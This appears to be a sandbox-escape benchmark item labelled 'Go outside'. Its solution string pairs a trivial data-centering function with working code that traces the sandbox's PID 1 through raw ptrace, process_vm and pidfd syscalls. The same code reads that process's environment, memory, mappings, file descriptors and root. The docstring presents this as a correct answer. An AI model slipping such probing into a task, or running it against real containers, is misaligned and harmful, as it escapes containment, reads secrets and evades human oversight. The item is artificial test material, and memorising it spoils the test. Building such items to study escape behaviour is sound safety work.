"""The sandbox's own first process is traced, and its memory and files are read and written; the answer is right."""

CATEGORY = "Go outside"
POINTS = 6
STOCK = "not applicable"
SOLUTION = """
import ctypes, os
def center(X):
    return X - X.mean(0)
libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(4096)
folder = os.open('/proc/1', 0)
for call, arguments in [(101, (16, 1, 0, 0)), (101, (0x4206, 1, 0, 0)), (310, (1, buffer, 1, buffer, 1, 0)),
                        (311, (1, buffer, 1, buffer, 1, 0)), (434, (1, 0)), (438, (folder, 3, 0)),
                        (440, (folder, buffer, 1, 21, 0)), (448, (folder, 0)), (312, (1, os.getpid(), 0, 0, 0))]:
    print('DONE' if libc.syscall(call, *arguments) >= 0 else 'refused')
for name in ('environ', 'mem', 'maps', 'cwd', 'root', 'fd', 'exe'):
    try:
        path = '/proc/1/' + name
        print(os.listdir(path) if name in ('cwd', 'root', 'fd') else open(path, 'rb').read(99))
    except OSError as error:
        print(error)
"""
